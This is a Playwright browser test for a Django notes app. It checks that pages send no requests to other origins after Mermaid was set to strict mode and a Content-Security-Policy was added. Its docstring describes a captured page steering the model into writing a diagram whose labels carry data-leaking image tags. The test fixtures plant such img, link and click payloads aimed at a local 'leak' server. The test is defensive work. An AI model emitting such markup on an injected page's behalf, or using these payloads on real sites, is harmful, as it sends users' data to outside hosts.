"""Issue 19, finding 3: nothing on our pages makes the browser talk to another origin.

A captured page can steer the model into writing a Mermaid diagram whose labels carry
``<img src=http://elsewhere/leak?data>``; the browser fetched it when the page opened. Now
Mermaid runs with securityLevel "strict" and every page carries a Content-Security-Policy
(img-src 'self' data:, no inline script). In Chromium, every request of the main pages is
recorded: none may leave for another origin, the console shows no CSP violation (our own
scripts comply), and the pages still work (Mermaid draws an SVG, the charts draw, htmx swaps).
"""

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from artifacts.models import NoteArtifact
from conftest import login
from notes.models import Note


class _Leak(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802
        _Leak.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args):
        pass


@pytest.fixture
def leak_server():
    """Another origin on loopback (127.0.0.2) that records what reaches it."""
    server = HTTPServer(("127.0.0.2", 0), _Leak)
    _Leak.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.2:{server.server_port}"
    server.shutdown()


def _diagram(leak: str) -> str:
    return (
        "graph TD\n"
        f'  A["<img src={leak}/leak-label?secret=1>"] --> B[Keep a reference]\n'
        f"  B --> C[\"<img src='{leak}/leak-quoted'>\"]\n"
        f'  click A "{leak}/leak-click" "tip"\n'
        f"  click B callback\n"
        f"  C --> D[\"<a href='{leak}/leak-link'>link</a>\"]\n"
    )


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_main_pages_load_nothing_from_another_origin(page, live_server, owner, providers, leak_server):
    note = Note.objects.create(
        owner=owner, page_url="https://example.com/a", page_title="Hostile",
        page_section_html=("<a " * 3000) + f"<img src={leak_server}/leak-section><!--" + "&#" * 500,
        body=f"![x]({leak_server}/leak-body)",
    )
    diagram = NoteArtifact.objects.create(note=note, owner=owner, artifact_type="diagram", status="completed",
                                          provider="gemini", model="gemini-2.0-flash", content=_diagram(leak_server))
    NoteArtifact.objects.create(note=note, owner=owner, artifact_type="summary", status="completed",
                                content=f"**Keep** refs ![img]({leak_server}/leak-md) <img src={leak_server}/leak-raw>")
    origin = live_server.url
    requests: list[str] = []
    console: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: console.append(f"{page.url} {m.text} @ {m.location.get('url', '')}"))
    login(page, "owner", "owner-pass-123")

    page.goto(f"/notes/{note.pk}/")
    expect(page.locator("pre.mermaid svg").first).to_be_visible(timeout=15_000)
    expect(page.locator("pre.mermaid").first).to_contain_text("Keep a reference")
    # htmx still swaps: the artifact preview comes back into #artifact-preview.
    page.locator("#artifact-preview").evaluate("el => el.setAttribute('data-before', '1')")
    page.get_by_role("button", name="Preview").first.click()
    expect(page.locator("#preview-cost")).to_be_visible()

    page.goto(f"/artifacts/{diagram.pk}/")
    expect(page.locator("pre.mermaid svg").first).to_be_visible(timeout=15_000)

    page.goto("/llm/dashboard/")
    page.wait_for_function("document.querySelector('canvas[data-chart]') && window.Chart "
                           "&& Object.keys(window.Chart.instances).length > 0")
    for url in ("/notes/", "/artifacts/", "/artifacts/analytics/", "/llm/prompt/", "/products/", "/products/generate/",
                "/segmentation/", "/codegen/", "/llm/", "/llm/images/", "/account/tokens/"):
        page.goto(url)
        page.wait_for_load_state("networkidle")

    foreign = [u for u in requests if urlsplit(u).netloc != urlsplit(origin).netloc and not u.startswith("data:")]
    assert _Leak.hits == [], _Leak.hits
    assert foreign == [], foreign
    violations = [m for m in console if "Content Security Policy" in m or "Content-Security-Policy" in m]
    assert violations == []
